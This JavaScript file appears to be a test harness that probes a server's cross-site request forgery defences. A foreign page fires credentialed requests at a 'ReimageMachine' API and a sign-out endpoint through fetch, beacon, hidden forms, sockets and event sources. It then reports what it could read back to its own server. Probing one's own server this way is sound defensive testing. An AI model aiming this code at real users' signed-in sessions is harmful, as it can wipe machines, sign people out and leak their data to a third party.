// The attempts of a foreign page against a server at TARGET, in a browser that is signed in there.
// The page reports what it saw of each to its own server.
const call = TARGET + "/farrier.v1.MachineService/ReimageMachine";
const body = new Uint8Array(BODY);
const results = {};

async function attempt(name, work) {
  try {
    results[name] = await work();
  } catch (error) {
    results[name] = "error";
  }
}

async function answer(request) {
  const response = await request;
  return response.type + " " + (await response.text());
}

function post(type, mode) {
  const headers = { "Content-Type": type };
  return answer(fetch(call, { method: "POST", mode, credentials: "include", headers, body }));
}

// What happens first: the element loads, or it fails.
function element(tag, attributes) {
  return new Promise((resolve) => {
    const made = Object.assign(document.createElement(tag), attributes);
    made.onload = () => resolve("loaded");
    made.onerror = () => resolve("error");
    document.body.append(made);
  });
}

// A form in a frame. The page cannot read what the frame shows; "about:blank" loads before it.
function form(action, enctype, fields) {
  return new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.name = "frame-" + Math.random();
    document.body.append(frame);
    const made = Object.assign(document.createElement("form"), { action, enctype, method: "POST" });
    made.target = frame.name;
    for (const [name, value] of Object.entries(fields)) {
      made.append(Object.assign(document.createElement("input"), { name, value }));
    }
    document.body.append(made);
    frame.onload = () => resolve("answered");
    made.submit();
  });
}

function event(source) {
  return new Promise((resolve) => {
    source.onopen = () => resolve("open");
    source.onmessage = () => resolve("open");
    source.onerror = () => resolve("error");
  });
}

async function attack() {
  await attempt("text/plain without CORS", () => post("text/plain", "no-cors"));
  await attempt("text/plain with CORS", () => post("text/plain", "cors"));
  await attempt("application/grpc with CORS", () => post("application/grpc", "cors"));
  await attempt("form type without CORS", () => post("application/x-www-form-urlencoded", "no-cors"));
  await attempt("beacon", () => String(navigator.sendBeacon(call, new Blob([body], { type: "text/plain" }))));
  await attempt("form to the API", () => form(call, "text/plain", { a: "b" }));
  await attempt("form to sign-out", () => form(TARGET + "/sign-out", "application/x-www-form-urlencoded", {}));
  await attempt("read with CORS", () => answer(fetch(TARGET + "/machines/m-1", { credentials: "include" })));
  await attempt("read without CORS", () => answer(fetch(TARGET + "/machines/m-1", { mode: "no-cors", credentials: "include" })));
  await attempt("image", () => element("img", { src: TARGET + "/favicon.svg?" + Math.random() }));
  await attempt("script", () => element("script", { src: TARGET + "/console.js" }));
  await attempt("web socket", () => event(new WebSocket(TARGET.replace("http:", "ws:") + "/stream")));
  await attempt("event source", () => event(new EventSource(TARGET + "/stream", { withCredentials: true })));
  await fetch("/done", { method: "POST", body: JSON.stringify(results) });
}

attack();
